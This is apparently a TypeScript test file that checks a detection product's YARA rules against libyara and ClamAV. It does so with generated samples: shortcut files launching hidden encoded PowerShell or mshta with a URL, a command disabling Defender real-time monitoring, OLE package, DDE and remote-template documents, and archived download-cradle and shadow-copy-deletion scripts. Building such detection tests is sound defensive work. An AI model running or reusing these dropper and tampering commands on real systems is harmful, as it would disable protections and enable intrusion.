/**
 * The default rule set against the real engines: every sample in
 * rules/yara/tests/samples.tsv (plus binary and archived samples generated
 * here) must make libyara (yarac + yara) and libclamav (clamscan, the library
 * clamd runs) report exactly the expected rules.
 */
import { mkdtemp, readdir, readFile, rm, writeFile, mkdir, copyFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compileWithYarac } from '../../kiosk/engines/yara/yarac.ts';
import { runTool } from '../../kiosk/engines/run-tool.ts';
import { loadRuleSet, STAGED_PREFIX } from '../../kiosk/engines/yara/rule-set.ts';
import type { RuleSet } from '../../kiosk/engines/yara/rule-set.ts';
import { ddeDocx, equationOleObject, externalTemplateDocx, fieldsAndLinksDocx, packageDoc, packageDocx, packageOleObject, packageRtf } from '../fixtures/hostile/active-content.ts';

const RULES = join(import.meta.dirname, '../../rules/yara');
const SAMPLES = join(RULES, 'tests/samples');

interface Expectation {
  readonly sample: string;
  readonly rules: readonly string[];
}

async function readExpectations(): Promise<Expectation[]> {
  const text = await readFile(join(RULES, 'tests/samples.tsv'), 'utf8');
  return text
    .split('\n')
    .filter((l) => l.trim() !== '' && !l.startsWith('#'))
    .map((l) => {
      const [sample, rules] = l.split('\t');
      return { sample: sample!, rules: rules === '-' ? [] : rules!.split(',') };
    });
}

/** "RULE PATH" lines (yara) or "PATH: YARA.RULE.UNOFFICIAL FOUND" lines (clamscan) -> file name -> sorted rules. */
function collect(lines: string, pattern: RegExp, dir: string): Map<string, string[]> {
  const found = new Map<string, Set<string>>();
  for (const line of lines.split('\n')) {
    const m = pattern.exec(line);
    if (m === null) continue;
    const file = m.groups!.path!.slice(dir.length + 1);
    const set = found.get(file) ?? new Set<string>();
    set.add(m.groups!.rule!);
    found.set(file, set);
  }
  return new Map([...found].map(([k, v]) => [k, [...v].sort()]));
}

// [MS-SHLLINK] 2.1 ShellLinkHeader + 2.4 StringData (IsUnicode): just enough for the LNK rule.
function shellLink(relativePath: string, args: string | undefined): Uint8Array {
  const header = Buffer.alloc(76);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4);
  const HAS_RELATIVE_PATH = 0x8;
  const HAS_ARGUMENTS = 0x20;
  const IS_UNICODE = 0x80;
  header.writeUInt32LE(HAS_RELATIVE_PATH | (args === undefined ? 0 : HAS_ARGUMENTS) | IS_UNICODE, 20);
  header.writeUInt32LE(0x20, 24); // FILE_ATTRIBUTE_ARCHIVE
  header.writeUInt32LE(7, 60); // SW_SHOWMINNOACTIVE
  const str = (s: string): Buffer => {
    const count = Buffer.alloc(2);
    count.writeUInt16LE(s.length);
    return Buffer.concat([count, Buffer.from(s, 'utf16le')]);
  };
  return Buffer.concat([header, str(relativePath), ...(args === undefined ? [] : [str(args)])]);
}

// A one-entry ZIP with a deflated member (APPNOTE 4.3.7 local header, 4.3.12 central directory, 4.3.16 end record).
function zipOne(name: string, data: Uint8Array): Uint8Array {
  const packed = deflateRawSync(data);
  const crc = crc32(data);
  const fileName = Buffer.from(name, 'ascii');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(data.byteLength, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(data.byteLength, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + packed.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, packed, central, fileName, end]);
}

function fakePe(...strings: string[]): Uint8Array {
  const head = Buffer.alloc(256);
  head.write('MZ', 0, 'ascii');
  return Buffer.concat([head, Buffer.from(strings.join('\0') + '\0', 'ascii'), Buffer.alloc(256)]);
}

// Deterministic pseudo-random bytes (xorshift32), as in bench/yara-engines.ts.
function pseudoRandom(size: number, seed: number): Uint8Array {
  const out = Buffer.alloc(size);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < size; i += 4) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out.writeUInt32LE(x >>> 0, i);
  }
  return out;
}

const generated: { name: string; bytes: () => Promise<Uint8Array> | Uint8Array; yara: string[]; clamav: string[]; why: string }[] = [
  {
    name: 'lnk-cmd-dropper.lnk',
    bytes: () => shellLink('..\\..\\Windows\\System32\\cmd.exe', '/c powershell -w hidden -enc SQBFAFgA'),
    yara: ['Portcullis_LNK_Script_Launcher', 'Portcullis_PowerShell_Encoded_Command'],
    clamav: ['Portcullis_LNK_Script_Launcher', 'Portcullis_PowerShell_Encoded_Command'],
    why: 'shortcut to cmd.exe /c powershell hidden -enc',
  },
  {
    name: 'lnk-mshta-url.lnk',
    bytes: () => shellLink('..\\..\\Windows\\System32\\mshta.exe', 'https://203.0.113.7/x.hta'),
    yara: ['Portcullis_LNK_Script_Launcher'],
    clamav: ['Portcullis_LNK_Script_Launcher'],
    why: 'shortcut to mshta with a URL',
  },
  {
    name: 'lnk-powershell-plain.lnk',
    bytes: () => shellLink('..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', undefined),
    yara: [],
    clamav: [],
    why: 'Start-menu style shortcut to PowerShell without arguments',
  },
  {
    name: 'lnk-hmi-app.lnk',
    bytes: () => shellLink('..\\HMI\\bin\\runtime.exe', '/project D:\\Projects\\Line1.mcp'),
    yara: [],
    clamav: [],
    why: 'shortcut to an HMI runtime with a project argument',
  },
  {
    name: 'text-not-lnk.txt',
    bytes: () => Buffer.from('Open cmd.exe /c dir to list the folder (hidden files too).\r\n'),
    yara: [],
    clamav: [],
    why: 'script-host words without the shell-link header',
  },
  {
    name: 'defender-utf16.ps1',
    bytes: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Set-MpPreference -DisableRealtimeMonitoring $true\r\n', 'utf16le')]),
    yara: ['Portcullis_Defender_Tampering'],
    clamav: ['Portcullis_Defender_Tampering'],
    why: 'UTF-16LE script (PowerShell ISE default) caught by the wide strings',
  },
  {
    name: 'amsi-genuine-like.dll',
    bytes: () => fakePe('System.Management.Automation', 'AmsiUtils', 'amsiInitFailed', 'AmsiScanBuffer', 'amsi.dll', 'VirtualProtect'),
    yara: [],
    clamav: [],
    why: 'PE naming AMSI members itself, as the genuine System.Management.Automation.dll does',
  },
  {
    name: 's7-proxy.dll',
    bytes: () => fakePe('s7otbxsx.dll', 's7blk_read', 's7blk_write', 's7db_open'),
    yara: ['Portcullis_OT_S7_Driver_Proxy'],
    clamav: ['Portcullis_OT_S7_Driver_Proxy'],
    why: 'DLL forwarding STEP 7 exports to the renamed original',
  },
  {
    name: 's7-genuine-like.dll',
    bytes: () => fakePe('s7otbxdx.dll', 's7blk_read', 's7blk_write', 'copy block'),
    yara: [],
    clamav: [],
    why: 'the genuine driver names itself and its exports',
  },
  // Seeds 1-4 made clamd flag the download-cradle rule while it had 3-letter aliases:
  // libclamav reads such bytes as UTF-16 text and matches the decoded view.
  ...[1, 2, 3, 4].map((seed) => ({
    name: `random-${seed}.bin`,
    bytes: () => pseudoRandom(4 * 1024 * 1024, seed),
    yara: [],
    clamav: [],
    why: '4 MiB of pseudo-random bytes: short strings must not match by chance',
  })),
  {
    name: 'package-oleobject.bin',
    bytes: () => packageOleObject('setup.exe', fakePe('setup')),
    yara: ['Portcullis_Office_OLE_Package_Object'],
    clamav: ['Portcullis_Office_OLE_Package_Object'],
    why: 'an OLE Package object as word/embeddings/oleObject1.bin holds it: a compound file with an Ole10Native stream',
  },
  {
    name: 'package-objectpool.doc',
    bytes: () => packageDoc('run.bat', Buffer.from('@echo off\r\necho hello\r\n')),
    yara: ['Portcullis_Office_OLE_Package_Object'],
    clamav: ['Portcullis_Office_OLE_Package_Object'],
    why: 'a legacy .doc whose ObjectPool holds a Package object',
  },
  {
    name: 'package-equation.bin',
    bytes: () => equationOleObject(),
    yara: [],
    clamav: [],
    why: 'an embedded Equation 3.0 object: OLE streams (\\x01Ole, \\x01CompObj), no Package',
  },
  {
    name: 'package-report.docx',
    bytes: () => packageDocx('setup.exe', fakePe('setup')),
    yara: [],
    clamav: ['Portcullis_Office_OLE_Package_Object'],
    why: 'a .docx embedding a Package object: clamd unpacks the document, libyara sees deflated parts',
  },
  {
    name: 'package-generated.rtf',
    bytes: () => packageRtf('run.ps1', Buffer.from('Write-Host hello\r\n')),
    yara: ['Portcullis_RTF_Package_Object'],
    clamav: ['Portcullis_RTF_Package_Object'],
    why: 'an RTF with a Package object in objdata, as the red team built it (review finding 10)',
  },
  {
    name: 'dde-report.docx',
    bytes: () => ddeDocx(),
    yara: [],
    clamav: ['Portcullis_Office_DDE_Field'],
    why: 'a .docx with a DDEAUTO field (review finding 11): only clamd unpacks word/document.xml',
  },
  {
    name: 'dde-fields-and-links.docx',
    bytes: () => fieldsAndLinksDocx(),
    yara: [],
    clamav: [],
    why: 'a .docx with a table of contents field, a hyperlink and text naming DDE',
  },
  {
    name: 'rels-template.docx',
    bytes: () => externalTemplateDocx(),
    yara: [],
    clamav: ['Portcullis_Office_External_Template_Or_OLE_Link'],
    why: 'a .docx attaching a template on a remote share (review finding 11)',
  },
  {
    name: 'cradle-in.zip',
    bytes: async () => zipOne('update.ps1', await readFile(join(SAMPLES, 'ps-cradle.ps1'))),
    yara: [],
    clamav: ['Portcullis_PowerShell_Download_Cradle'],
    why: 'download cradle inside a deflated ZIP: clamd unpacks it, libyara sees compressed bytes',
  },
  {
    name: 'shadow-delete.bat.gz',
    bytes: async () => gzipSync(await readFile(join(SAMPLES, 'shadow-delete.bat'))),
    yara: [],
    clamav: ['Portcullis_Shadow_Copy_Deletion'],
    why: 'ransomware prep inside gzip: only clamd decompresses',
  },
];

let work: string;
let set: RuleSet;
let expectations: Expectation[];
let yaraFound: Map<string, string[]>;
let clamFound: Map<string, string[]>;
let genDir: string;
let yaraGen: Map<string, string[]>;
let clamGen: Map<string, string[]>;

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'portcullis-yara-rules-test-'));
  set = await loadRuleSet(RULES);
  expectations = await readExpectations();
  const compiled = await compileWithYarac(set.files, join(work, 'yarac'), { yaracPath: 'yarac', timeoutMs: 30_000 });
  expect(compiled.problems).toEqual([]);
  const db = join(work, 'db');
  await mkdir(db);
  // libclamav gets what clamd gets: the staged files, with their liveness probes (which must change no verdict here).
  for (const f of set.staged.files) await writeFile(join(db, STAGED_PREFIX + f.name), f.bytes);

  genDir = join(work, 'generated');
  await mkdir(genDir);
  for (const g of generated) await writeFile(join(genDir, g.name), await g.bytes());

  const yaraLine = /^(?<rule>\w+) (?<path>.+)$/;
  const clamLine = /^(?<path>.+): YARA\.(?<rule>\w+)\.UNOFFICIAL FOUND$/;
  const scan = async (dir: string): Promise<[Map<string, string[]>, Map<string, string[]>]> => {
    const y = await runTool('yara', ['-C', '-r', compiled.compiledPath, dir], { timeoutMs: 60_000 });
    expect(y.code, y.stderr).toBe(0);
    const c = await runTool('clamscan', ['--no-summary', '--allmatch', '--infected', '--recursive', `--database=${db}`, dir], { timeoutMs: 60_000 });
    expect([0, 1], c.stderr).toContain(c.code);
    expect(c.stderr).toBe('');
    return [collect(y.stdout, yaraLine, dir), collect(c.stdout, clamLine, dir)];
  };
  [yaraFound, clamFound] = await scan(SAMPLES);
  [yaraGen, clamGen] = await scan(genDir);
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

describe('default YARA rules on the sample corpus', () => {
  it('lists every sample file in samples.tsv and no missing one', async () => {
    const files = (await readdir(SAMPLES)).sort();
    expect(expectations.map((e) => e.sample).sort()).toEqual(files);
  });

  it('libyara reports exactly the expected rules for every text sample', () => {
    for (const e of expectations) expect(yaraFound.get(e.sample) ?? [], e.sample).toEqual([...e.rules].sort());
  });

  it('libclamav reports exactly the expected rules for every text sample', () => {
    for (const e of expectations) expect(clamFound.get(e.sample) ?? [], e.sample).toEqual([...e.rules].sort());
  });

  it('both engines report the expected rules for generated binary and archived samples', () => {
    for (const g of generated) {
      expect(yaraGen.get(g.name) ?? [], `yara: ${g.name} (${g.why})`).toEqual(g.yara);
      expect(clamGen.get(g.name) ?? [], `clamav: ${g.name} (${g.why})`).toEqual(g.clamav);
    }
  });

  it('has a sample that must match and a look-alike that must not for every rule', () => {
    const all = [
      ...expectations.map((e) => ({ file: e.sample, rules: e.rules })),
      ...generated.map((g) => ({ file: g.name, rules: g.clamav })),
    ];
    for (const rule of set.rules.filter((r) => !r.isPrivate)) {
      const positives = all.filter((s) => s.rules.includes(rule.name));
      expect(positives.length, `${rule.name}: positive samples`).toBeGreaterThan(0);
      // A look-alike shares the rule's topic (file-name prefix) but matches nothing.
      const topics = new Set(positives.map((p) => p.file.split('-')[0]));
      const lookalikes = all.filter((s) => topics.has(s.file.split('-')[0]) && s.rules.length === 0);
      expect(lookalikes.length, `${rule.name}: benign look-alikes`).toBeGreaterThan(0);
    }
  });
});

describe('rule files shipped in rules/yara', () => {
  it('carry author Portcullis, a description, a reference and a severity on every rule', () => {
    for (const r of set.rules) {
      expect(r.author, r.name).toBe('Portcullis');
      expect(r.description?.length ?? 0, r.name).toBeGreaterThan(10);
      expect(r.reference, r.name).toMatch(/^(https:\/\/|docs\/)/);
      expect(['low', 'medium', 'high', 'critical'], r.name).toContain(r.severity);
    }
  });

  it('are the files the staged copy is made of, byte for byte', async () => {
    const dir = join(work, 'copy');
    await mkdir(dir);
    for (const f of set.files) {
      await copyFile(join(RULES, f.name), join(dir, f.name));
      expect(Buffer.compare(Buffer.from(await readFile(join(dir, f.name))), Buffer.from(f.bytes)), f.name).toBe(0);
    }
  });
});
